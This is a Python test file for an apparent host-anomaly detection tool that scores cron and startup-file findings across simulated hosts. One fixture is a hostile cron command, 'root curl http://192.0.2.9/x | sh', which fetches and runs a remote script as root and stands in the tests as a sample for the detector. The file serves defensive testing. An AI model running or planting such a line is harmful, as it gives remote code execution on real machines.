"""A file speaks no louder than its lines, and keeps its bits where no query reads it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bot.analysis import judge
from bot.model import Finding, Query
from tests.analysis.cases import PACK, case, honest

FILES = replace(
    PACK,
    queries=(
        *PACK.queries,
        Query(
            "startup_files",
            "SELECT path, mode, sha256 FROM file JOIN hash USING (path)",
            "What starts.",
            key=("path",),
            attack=("T1037",),
            telling=4,
        ),
    ),
)
SHARED_PROGRAM = {"path": "/usr/local/bin/sitemap", "mode": "0755", "sha256": "d" * 64}
CRON_FILE = {"path": "/etc/cron.d/leader", "mode": "0644", "sha256": "c" * 64}


def findings(command: str, *, told: bool = True) -> dict[str, Finding]:
    """Return by query the findings on one of twelve hosts that has a cron file with this line; not ``told``: no query reads it."""
    hosts = honest(12)
    for index, (_, rows) in enumerate(hosts):
        rows["startup_files"] = [SHARED_PROGRAM, *([CRON_FILE] if index == 4 else [])]
    if told:
        hosts[4][1]["crontab"].append({"command": command, "path": CRON_FILE["path"]})
    report = judge(case(hosts, pack=FILES))
    return {
        query: finding
        for finding in report.of_host(hosts[4][0].id)
        for query in (finding.query, *(fact.query for fact in finding.also))
    }


def test_a_file_is_worth_what_its_sharpest_line_is_worth() -> None:
    """The line starts only what most hosts have, which lowers it; its file alone would be sharper."""
    told, alone = findings("ada /usr/local/bin/sitemap"), findings("", told=False)

    assert alone["startup_files"].score > told["crontab"].score
    assert told["startup_files"].score <= told["crontab"].score


def test_a_file_with_a_sharp_line_is_as_sharp_as_by_itself() -> None:
    """What the file is worth is never raised."""
    sharp, alone = findings("root curl http://192.0.2.9/x | sh"), findings("", told=False)

    own = [fact.score for fact in sharp["crontab"].also if fact.query == "startup_files"]

    assert own == [alone["startup_files"].score]


@pytest.mark.parametrize("command", ["ada /usr/local/bin/sitemap", "root curl http://192.0.2.9/x | sh"])
def test_the_parts_still_add_up(command: str) -> None:
    """Also where something is taken off because the lines are told."""
    for finding in findings(command).values():
        assert round(sum(part.bits for part in finding.parts), 2) == round(finding.score, 2)
